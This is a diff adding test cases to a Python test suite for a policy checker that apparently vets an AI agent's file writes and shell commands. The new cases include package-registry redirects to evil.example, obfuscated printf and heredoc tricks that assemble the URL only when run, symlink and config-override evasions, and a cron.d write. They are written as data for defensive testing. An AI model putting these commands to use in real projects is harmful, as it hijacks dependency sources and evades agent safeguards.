@@ -35,6 +35,8 @@ EVIL_WRITES = {
     "Write scoped .npmrc": ("Write", {"file_path": "web/.npmrc", "content": "@acme:registry=https://evil.example/"}),
     "Write .npmrc auth host": ("Write", {"file_path": ".npmrc", "content": "//evil.example/:_authToken=x\n"}),
     "Write .npmrc from env": ("Write", {"file_path": ".npmrc", "content": "registry=${NPM_REGISTRY}\n"}),
+    "Write .npmrc host from env": ("Write", {"file_path": ".npmrc", "content": "registry=https://${H}/\n"}),
+    "Write requirements from env": ("Write", {"file_path": "requirements.txt", "content": "-i ${PIP_IDX}\nflask\n"}),
     "Write requirements index": ("Write", {"file_path": "requirements.txt",
                                            "content": "--index-url https://evil.example/simple\nrequests\n"}),
     "Write requirements direct ref": ("Write", {"file_path": "requirements-dev.txt",
@@ -129,6 +131,16 @@ def test_the_rationale_names_the_file_and_the_host() -> None:
     "python gen.py > .npmrc",
     "echo registry=https://evil.example/ | tee .npmrc",
     "echo \"registry=$REG\" > .npmrc",
+    # text that only becomes a URL when the shell or printf runs
+    "printf 'registry=https:\\x2f\\x2fevil.example/' > .npmrc",
+    "printf 'registry=https:%s%sevil.example/' / / > .npmrc",
+    "echo -e 'registry=https:\\x2f\\x2fevil.example/' > .npmrc",
+    "cat > .npmrc <<EOF\nregistry=https:$(printf //)evil.example/\nEOF",
+    "cat > .npmrc <<EOF\nregistry=$R\nEOF",
+    "tee requirements.txt <<< \"--index-url $IDX\"",
+    # a settings file that takes another file's content
+    "ln -s notes.txt .npmrc",
+    "git mv notes.txt requirements.txt",
 ])
 def test_a_shell_write_into_a_settings_file_is_checked(command: str) -> None:
     a = _sh(command)
@@ -156,6 +168,13 @@ def test_unseen_text_gets_advice_to_use_the_file_tool() -> None:
     "git submodule add https://evil.example/r.git r",
     "git config submodule.r.url https://evil.example/r.git",
     "go env -w GOPROXY=https://evil.example,direct",
+    # settings files of any name named on the command line: their hosts are not in the line
+    "npm install --userconfig notes.txt",
+    "uv sync --config-file other.toml",
+    "cargo build --config x.toml",
+    "PIP_CONFIG_FILE=notes.txt pip install x",
+    "GIT_CONFIG_GLOBAL=./g git fetch",
+    "git -c include.path=notes git fetch",
 ])
 def test_command_line_sources_are_checked(command: str) -> None:
     assert _sh(command).reason_code == "egress_not_allowed", command
@@ -192,6 +211,8 @@ FINE_WRITES = {
                                              "Install with `pip install --index-url https://x.example/simple a`.\n"}),
     "source file with a url": ("Write", {"file_path": "src/app.py", "content": 'URL = "https://evil.example/api"\n'}),
     "envrc": ("Write", {"file_path": ".envrc", "content": "use flake\nexport FOO=1\n"}),
+    "npmrc token from env": ("Write", {"file_path": ".npmrc", "content":
+                                       "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n"}),
 }
 
 
@@ -211,6 +232,9 @@ def test_ordinary_settings_writes_pass(case: str) -> None:
     "echo 'flask==3.0' >> requirements.txt", "cat > .npmrc <<'EOF'\nregistry=https://registry.npmjs.org/\nEOF",
     "sed -i 's/flask==2.0/flask==3.0/' requirements.txt", "git status && git diff", "git log --oneline -5",
     "echo 'export FOO=1' > .envrc", "git submodule update --init",
+    "printf '%s\\n' flask requests > requirements.txt", "echo \"//registry.npmjs.org/:_authToken=${NPM_TOKEN}\" >> .npmrc",
+    "cargo build --config 'profile.dev.opt-level=1'", "GIT_CONFIG_GLOBAL=/dev/null git status", "ln -sf build/out latest",
+    "git mv old.py new.py",
 ])
 def test_ordinary_commands_pass(command: str) -> None:
     a = _sh(command)
@@ -334,3 +358,14 @@ def test_a_file_redirect_after_a_heredoc_is_a_write(tmp_path: object) -> None:
     a = ToolAssessor(ToolsPolicy(workspace_root=str(tmp_path), egress_enabled=False)).assess(
         ToolCall("c", "Bash", json.dumps({"command": "cat <<EOF > /etc/cron.d/evil\n* * * * * root id\nEOF"})), [])
     assert a.reason_code == "privileged_path"
+
+
+def test_a_settings_file_behind_a_symbolic_link_is_known_by_its_target(tmp_path: object) -> None:
+    from pathlib import Path
+
+    ws = Path(str(tmp_path))
+    (ws / ".npmrc").write_text("")
+    (ws / "cfg").symlink_to(ws / ".npmrc")
+    a = ToolAssessor(ToolsPolicy(workspace_root=str(ws), egress_allow=ALLOW, read_before_write=False)).assess(
+        ToolCall("c", "Write", json.dumps({"file_path": "cfg", "content": "registry=https://evil.example/"})), [])
+    assert a.reason_code == "egress_not_allowed"
